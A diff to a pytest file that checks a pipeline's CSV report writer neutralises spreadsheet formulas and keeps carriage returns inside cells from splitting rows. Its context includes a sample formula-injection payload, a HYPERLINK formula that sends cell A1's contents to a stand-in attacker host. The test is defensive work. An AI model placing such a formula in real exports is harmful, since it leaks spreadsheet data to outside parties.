@@ -8,7 +8,7 @@ import io
 
 import pytest
 
-from ox_bb_pipeline.warehouse.report import spreadsheet_safe, write_reports
+from ox_bb_pipeline.warehouse.report import csv_text, spreadsheet_safe, write_reports
 
 FORMULA = ("=", "+", "-", "@", "\t", "\r")
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"details")'
@@ -39,3 +39,12 @@ def test_compliance_csv_neutralises_formulas_in_every_cell(lake, small_catalog):
     [row] = [r for r in rows if r["control_id"] == "CIS-SSC-1.1.16"]
     assert (row["status"], row["framework_score"]) == ("pass", "100.0")
     assert not any(cell.startswith(FORMULA) for r in rows for cell in r.values())
+
+
+def test_a_carriage_return_inside_a_cell_does_not_split_the_row():
+    """With "\n" line ends the csv module writes a lone CR unquoted; a reader would end the row there."""
+    text = csv_text(["application", "evidence"], [["api", "branch main\r=1+1"], ["web", "plain"]])
+
+    assert list(csv.reader(io.StringIO(text, newline=""))) == [
+        ["application", "evidence"], ["api", "branch main\r=1+1"], ["web", "plain"]]
+    assert text.endswith('"api","branch main\r=1+1"\nweb,plain\n')
